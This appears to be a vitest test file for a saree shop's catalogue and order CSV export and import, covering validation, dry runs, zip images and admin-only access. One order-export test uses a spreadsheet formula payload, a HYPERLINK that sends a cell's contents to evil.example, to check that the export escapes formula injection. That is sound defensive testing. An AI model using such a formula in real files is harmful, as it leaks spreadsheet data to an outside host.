import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { strToU8, zipSync } from "fflate";
import { eq } from "drizzle-orm";
import { AVIF_MARK, IMAGE_WIDTHS } from "@pallu/domain";
import { beforeAll, describe, expect, it } from "vitest";
import { seedDemoCatalogue } from "../../db/seed/seed-demo.js";
import { buyingOptions, productImages, products } from "../../db/schema/index.js";
import { aCategory, aProduct, aSaree } from "../../test/catalogue-builders.js";
import { payCod } from "../../test/checkout.js";
import { useSignedInUser, useTestShop } from "../../test/file-fixtures.js";
import { aShopper } from "../../test/user-builders.js";
import { imageKeyOf } from "../images/image-cleanup.js";
import { copyName } from "../images/image-copies.js";
import { storeImage } from "../images/image-processor.js";
import { aPng, sendForm, type FormValue } from "../../test/uploads.js";

const shop = useTestShop();
const admin = useSignedInUser(shop, { userType: "Admin" });
const customer = useSignedInUser(shop);
let shopImage: string;

type Problem = { line: number; column: string; message: string };

async function exportCsv(): Promise<string> {
  const response = await shop.app.inject({ method: "GET", url: "/api/v1/products/exportProducts", headers: admin.headers });
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers["content-disposition"]).toMatch(/^attachment; filename="catalogue-.*\.csv"$/);
  return response.body;
}

async function adminList() {
  const response = await shop.app.inject({
    method: "POST",
    url: "/api/v1/products/getAllProduct",
    headers: admin.headers,
    payload: { all: true },
  });
  return (response.json() as { products: { name: string }[] }).products.sort((a, b) => a.name.localeCompare(b.name));
}

function importCsv(csv: string, extra: Record<string, FormValue> = {}, headers: Record<string, string> = admin.headers) {
  return sendForm(
    shop.app,
    "POST",
    "/products/importProducts",
    { file: { file: Buffer.from(csv), name: "catalogue.csv", type: "text/csv" }, ...extra },
    headers,
  );
}

type Row = Record<string, string>;
const rowsOf = (csv: string): Row[] => parse(csv, { columns: true }) as Row[];
const csvOf = (rows: Row[]) => stringify(rows, { header: true, columns: header.split(",") });

/** The export with cells of the first row of a product changed. */
function withCells(csv: string, handle: string, cells: Row): string {
  const rows = rowsOf(csv);
  const index = rows.findIndex((row) => row.handle === handle);
  rows[index] = { ...rows[index]!, ...cells };
  return csvOf(rows);
}

/** The file line of a product's first row (no exported cell spans lines). */
const lineOf = (csv: string, handle: string) => rowsOf(csv).findIndex((row) => row.handle === handle) + 2;

const header =
  "handle,name,description,category,colour,location,details,cod,hsn_code,gst_rate,weight_grams,length_cm,breadth_cm,height_cm,draft,fabric,weave,region,occasion,saree_length,blouse_piece,one_of_a_kind,size,price,discounted_price,stock,images";

/** A file written before the attribute columns: every attribute column (and one_of_a_kind) may be left out. */
const headerWithoutAttributes = header.replace(",fabric,weave,region,occasion,saree_length,blouse_piece,one_of_a_kind", "");

beforeAll(async () => {
  const db = shop.deps.db;
  await seedDemoCatalogue(db, shop.deps.imageStore, { images: false, limit: 12 });
  // the demo's pictures are drawn in the background; each product shows one stored photo here
  shopImage = (await storeImage(shop.deps.imageStore, await aPng("#884422", 16))).url;
  for (const { id } of await db.select({ id: products.id }).from(products)) {
    await db.insert(productImages).values({ productId: id, position: 0, url: shopImage });
  }
});

describe("exporting and importing the catalogue", () => {
  it("gives back an identical catalogue when the export is imported again", async () => {
    const before = await adminList();
    const csv = await exportCsv();
    expect(csv.split("\r\n")[0]).toBe(`${header},services,made_to_order_days,available_from`);
    const saree = rowsOf(csv).find((row) => row.fabric === "silk" && row.blouse_piece === "yes");
    expect(saree).toMatchObject({ saree_length: "5.5", region: expect.stringMatching(/^[a-z-]+$/) });

    const response = await importCsv(csv);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json().summary).toMatchObject({ created: 0, updated: before.length, dryRun: false });

    expect(await adminList()).toEqual(before);
    expect(await exportCsv()).toBe(csv);
  });

  it("reads one_of_a_kind, and makes a piece without sizes and with one in stock one of a kind when the column is empty or missing", async () => {
    const category = await aCategory(shop.deps.db, { name: "One-offs" });
    const rowOf = (handle: string, oneOfAKind: string, stock: number) =>
      `${handle},Katan ${handle},Woven once.,One-offs,,,"[{""heading"":""Fabric"",""detail"":""Silk""}]",yes,,,,,,,no,,,,,,,${oneOfAKind},NA,16000,14000,${stock},${shopImage}`;
    const file = [header, rowOf("katan-empty", "", 1), rowOf("katan-no", "no", 1), rowOf("katan-many", "", 3)].join("\n");
    expect((await importCsv(`${file}\n`)).statusCode).toBe(200);
    const oneOff = (handle: string) => rowsOf(csv).find((row) => row.handle === handle)?.one_of_a_kind;
    const csv = await exportCsv();
    expect([oneOff("katan-empty"), oneOff("katan-no"), oneOff("katan-many")]).toEqual(["yes", "no", "no"]);

    const older = `${headerWithoutAttributes}\nkatan-old,Katan old,Woven once.,One-offs,,,"[{""heading"":""Fabric"",""detail"":""Silk""}]",yes,,,,,,,no,NA,16000,14000,1,${shopImage}\n`;
    expect((await importCsv(older)).statusCode).toBe(200);
    expect(rowsOf(await exportCsv()).find((row) => row.handle === "katan-old")?.one_of_a_kind).toBe("yes");

    const wrong = await importCsv(`${header}\n${rowOf("katan-bad", "maybe", 1)}\n${rowOf("katan-two", "yes", 2)}\n`);
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().errors).toEqual([
      expect.objectContaining({ line: 2, column: "one_of_a_kind" }),
      { line: 3, column: "stock", message: "A one-of-a-kind piece has one in stock, or none once it is sold" },
    ]);
    expect(category.name).toBe("One-offs");
  });

  it("writes a name a spreadsheet would run as a formula as text, and reads it back as it was", async () => {
    const category = await aCategory(shop.deps.db, { name: "Offers" });
    const sale = await aProduct(shop.deps.db, {
      name: "-Sale-",
      description: "=1+1 pieces, @ half price",
      categoryId: category.id,
      options: [{ original: 1200, stock: 3 }],
      images: [shopImage],
    });
    const csv = await exportCsv();
    const line = csv.split("\r\n").find((each) => each.includes("-Sale-"))!;
    expect(line).toContain(`,'-Sale-,"'=1+1 pieces, @ half price",Offers,`);
    expect(line).toMatch(/,NA,1200,1200,3,/);

    const response = await importCsv(csv);
    expect(response.statusCode, response.body).toBe(200);
    const [saved] = await shop.deps.db
      .select({ name: products.name, description: products.description })
      .from(products)
      .where(eq(products.id, sale.id));
    expect(saved).toEqual({ name: "-Sale-", description: "=1+1 pieces, @ half price" });
    expect(await exportCsv()).toBe(csv);
  });

  it("changes nothing when a row has problems and lists each with its line and column", async () => {
    const before = await exportCsv();
    const [first, second] = [...new Set(rowsOf(before).map((row) => row.handle))] as [string, string];
    let broken = withCells(before, first, { stock: "-2" });
    broken = withCells(broken, second, { category: "Nowhere", images: "https://elsewhere.example/saree.jpg" });

    const response = await importCsv(broken);
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual([
      { line: lineOf(before, first), column: "stock", message: "Stock must not be negative" },
      { line: lineOf(before, second), column: "category", message: "No category has this name" },
    ]);

    const elsewhere = await importCsv(withCells(before, second, { images: "https://elsewhere.example/saree.jpg" }));
    expect(elsewhere.statusCode).toBe(400);
    expect(elsewhere.json().errors).toEqual([
      {
        line: lineOf(before, second),
        column: "images",
        message: "https://elsewhere.example/saree.jpg: Not an image of this shop, nor a file in the images zip",
      },
    ]);
    expect(await exportCsv()).toBe(before);
  });

  it("sets a product's attributes from their columns, by value or label, and names a wrong one's column", async () => {
    const before = await exportCsv();
    const [handle] = [...new Set(rowsOf(before).map((row) => row.handle))] as [string];
    const changed = withCells(before, handle, {
      fabric: "Tussar",
      weave: "Kota Doria",
      region: "rajasthan",
      occasion: "",
      saree_length: "6.3",
      blouse_piece: "no",
    });
    const response = await importCsv(changed);
    expect(response.statusCode, response.body).toBe(200);
    const row = rowsOf(await exportCsv()).find((candidate) => candidate.handle === handle);
    expect(row).toMatchObject({ fabric: "tussar", weave: "kota-doria", region: "rajasthan", occasion: "", saree_length: "6.3", blouse_piece: "no" });

    const wrong = await importCsv(withCells(changed, handle, { weave: "Polyester", saree_length: "60" }));
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().errors).toEqual([
      { line: lineOf(changed, handle), column: "weave", message: expect.stringMatching(/^Unknown weave "Polyester"; use one of: banarasi/) },
      { line: lineOf(changed, handle), column: "saree_length", message: "Saree length must be between 1 and 12 metres, with at most 2 decimals" },
    ]);
  });

  it("answers a dry run with what would change and changes nothing", async () => {
    const before = await exportCsv();
    // A piece sold in numbers: a one-of-a-kind piece cannot have 99 in stock, whichever row the export lists first.
    const existing = (rowsOf(before) as Row[]).find((row) => row.one_of_a_kind !== "yes")!;
    const newProduct = { ...existing, handle: "new-saree", name: "New Saree", size: "NA", stock: "3" };
    const changed = rowsOf(withCells(before, existing.handle!, { stock: "99" }));
    const response = await importCsv(csvOf([...changed, newProduct]), { dryRun: "true" });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json().summary).toMatchObject({ created: 1, dryRun: true });
    expect(await exportCsv()).toBe(before);
  });

  it("updates a product by its handle, keeping the ids of its sizes and adding new ones", async () => {
    const category = await aCategory(shop.deps.db, { name: "Kurtas" });
    const kurta = await aProduct(shop.deps.db, {
      name: "Cotton Kurta",
      categoryId: category.id,
      options: [
        { size: "S", original: 800, stock: 2 },
        { size: "M", original: 800, stock: 4 },
      ],
      images: [shopImage],
    });
    const [{ handle }] = (await shop.deps.db
      .select({ handle: products.handle })
      .from(products)
      .where(eq(products.id, kurta.id))) as [{ handle: string }];
    expect(handle).toMatch(/^cotton-kurta-[0-9a-f]{8}$/);
    const idsBefore = await shop.deps.db.select().from(buyingOptions).where(eq(buyingOptions.productId, kurta.id));

    const rows = [
      `${handle},Cotton Kurta,A soft saree for every day.,Kurtas,,,"[{""heading"":""Fabric"",""detail"":""Cotton""}]",yes,,,,,,,no,S,800,800,2,${shopImage}`,
      `${handle},,,,,,,,,,,,,,,M,850,799.5,7,`,
      `${handle},,,,,,,,,,,,,,,L,900,900,1,`,
    ];
    const response = await importCsv(`${headerWithoutAttributes}\n${rows.join("\n")}\n`);
    expect(response.statusCode, response.body).toBe(200);

    const after = await shop.deps.db.select().from(buyingOptions).where(eq(buyingOptions.productId, kurta.id));
    const bySize = (size: string) => after.find((option) => option.size === size && !option.deletedAt);
    expect(bySize("S")?.id).toBe(idsBefore.find((option) => option.size === "S")?.id);
    expect(bySize("M")).toMatchObject({
      id: idsBefore.find((option) => option.size === "M")?.id,
      originalPricePaise: 85_000,
      discountedPricePaise: 79_950,
      stock: 7,
    });
    expect(bySize("L")).toMatchObject({ originalPricePaise: 90_000, stock: 1 });
  });

  it("creates a product with pictures from a zip sent beside the file", async () => {
    const categoryName = rowsOf(await exportCsv())[0]!.category!;
    const zip = Buffer.from(
      zipSync({ "photos/front.png": await aPng("#225588", 32), "notes.txt": strToU8("not a picture") }),
    );
    const row = `zip-saree,Zip Saree,From the zip.,${categoryName},,,"[{""heading"":""Fabric"",""detail"":""Silk""}]",no,,,,,,,yes,NA,1200,1100,4,front.png`;
    const response = await importCsv(`${headerWithoutAttributes}\n${row}\n`, {
      images: { file: zip, name: "photos.zip", type: "application/zip" },
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json().summary).toMatchObject({ created: 1 });

    const exported = (await exportCsv()).split("\r\n").find((line) => line.startsWith("zip-saree,"));
    expect(exported).toMatch(/,yes,,,,,,,no,NA,1200,1100,4,\/images\/[0-9a-f]{24}-640\.webp\?avif,,,$/);

    const notAPicture = await importCsv(`${headerWithoutAttributes}\n${row.replace("front.png", "notes.txt")}\n`, {
      images: { file: zip, name: "photos.zip", type: "application/zip" },
    });
    expect(notAPicture.statusCode).toBe(400);
    expect(notAPicture.json().errors).toEqual([
      { line: 2, column: "images", message: "notes.txt: The file is not an image we can read" },
    ]);
  });

  it("takes a shop image's URL marked as having AVIF copies only while those copies exist", async () => {
    const { url } = await storeImage(shop.deps.imageStore, await aPng("#335577", 16));
    for (const width of IMAGE_WIDTHS) await shop.deps.imageStore.delete(copyName(imageKeyOf(url)!, width, "avif"));
    const before = await exportCsv();
    const handles = rowsOf(before).map((row) => row.handle!);
    // a product sold in one size: its one row names its images
    const handle = handles.find((each) => handles.indexOf(each) === handles.lastIndexOf(each))!;

    const marked = await importCsv(withCells(before, handle, { images: url }), { dryRun: "true" });
    expect(marked.statusCode).toBe(400);
    expect(marked.json().errors).toEqual([
      {
        line: lineOf(before, handle),
        column: "images",
        message: `${url}: Not an image of this shop, nor a file in the images zip`,
      },
    ]);
    const plain = await importCsv(withCells(before, handle, { images: url.replace(AVIF_MARK, "") }), {
      dryRun: "true",
    });
    expect(plain.statusCode, plain.body).toBe(200);
  });

  it("refuses a file that is not the catalogue's CSV, naming the columns", async () => {
    const response = await importCsv("colour;price\nred;12\n");
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual(
      expect.arrayContaining([{ line: 1, column: "handle", message: "This column is missing" }]),
    );

    const unclosed = await importCsv(`${header}\nbroken,"Name\n`);
    expect(unclosed.statusCode).toBe(400);
    expect((unclosed.json().errors as Problem[])[0]!.message).toMatch(/^The file is not a CSV file we can read/);
  });

  it("refuses a file over the size limit with 413", async () => {
    const huge = `${header}\n` + "x".repeat(21 * 1024 * 1024);
    const response = await importCsv(huge);
    expect(response.statusCode).toBe(413);
  });

  it("lets only the admin export and import", async () => {
    for (const headers of [customer.headers, {}]) {
      const exported = await shop.app.inject({ method: "GET", url: "/api/v1/products/exportProducts", headers });
      expect([401, 403]).toContain(exported.statusCode);
      const imported = await importCsv(`${header}\n`, {}, headers);
      expect([401, 403]).toContain(imported.statusCode);
      const orders = await shop.app.inject({
        method: "GET",
        url: "/api/v1/orders/exportOrders?from=2025-04-01&to=2025-04-30",
        headers,
      });
      expect([401, 403]).toContain(orders.statusCode);
    }
    const asCustomer = await shop.app.inject({
      method: "GET",
      url: "/api/v1/products/exportProducts",
      headers: customer.headers,
    });
    expect(asCustomer.statusCode).toBe(403);
  });
});

describe("GET /orders/exportOrders", () => {
  it("answers the orders placed on the days asked, in India's time, and none from other days", async () => {
    const shopper = await aShopper(shop.deps.db, { fullname: "Asha Rao" });
    const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "Chanderi Saree" });
    const placed = await payCod(shop, shopper, [{ ...saree, quantity: 2 }]);
    expect(placed.statusCode, placed.body).toBe(200);
    const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);

    const response = await shop.app.inject({
      method: "GET",
      url: `/api/v1/orders/exportOrders?from=${today}&to=${today}`,
      headers: admin.headers,
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-disposition"]).toBe(`attachment; filename="orders-${today}-to-${today}.csv"`);
    const [row, ...others] = parse(response.body, { columns: true }) as Row[];
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      customer: "Asha Rao",
      payment_type: "COD",
      status: "pending",
      lines: "Chanderi Saree x 2",
      total: "3000",
    });
    expect(row!.order_number).toMatch(/^PL-\d{6}-\w{6}$/);
    expect(row!.date_ist!.startsWith(today)).toBe(true);

    const earlier = await shop.app.inject({
      method: "GET",
      url: "/api/v1/orders/exportOrders?from=2025-04-01&to=2025-04-30",
      headers: admin.headers,
    });
    expect(earlier.body.trim().split("\r\n")).toEqual([
      "order_number,date_ist,customer,state,payment_type,status,lines,taxable_value,gst,total,invoice_number",
    ]);
  });

  it("writes a shopper's name that a spreadsheet would run as a formula as text, and amounts as numbers", async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const shopper = await aShopper(shop.deps.db, { fullname: formula });
    const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "-Sale- Kota Saree" });
    const placed = await payCod(shop, shopper, [{ ...saree, quantity: 1 }]);
    expect(placed.statusCode, placed.body).toBe(200);
    const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);

    const response = await shop.app.inject({
      method: "GET",
      url: `/api/v1/orders/exportOrders?from=${today}&to=${today}`,
      headers: admin.headers,
    });
    expect(response.statusCode).toBe(200);
    const row = (parse(response.body, { columns: true }) as Row[]).find((each) => each.customer!.includes("HYPERLINK"));
    expect(row).toMatchObject({ customer: `'${formula}`, lines: "'-Sale- Kota Saree x 1", total: "1500" });
  });

  it("refuses a range back to front", async () => {
    const backwards = await shop.app.inject({
      method: "GET",
      url: "/api/v1/orders/exportOrders?from=2025-04-30&to=2025-04-01",
      headers: admin.headers,
    });
    expect(backwards.statusCode).toBe(400);
  });
});
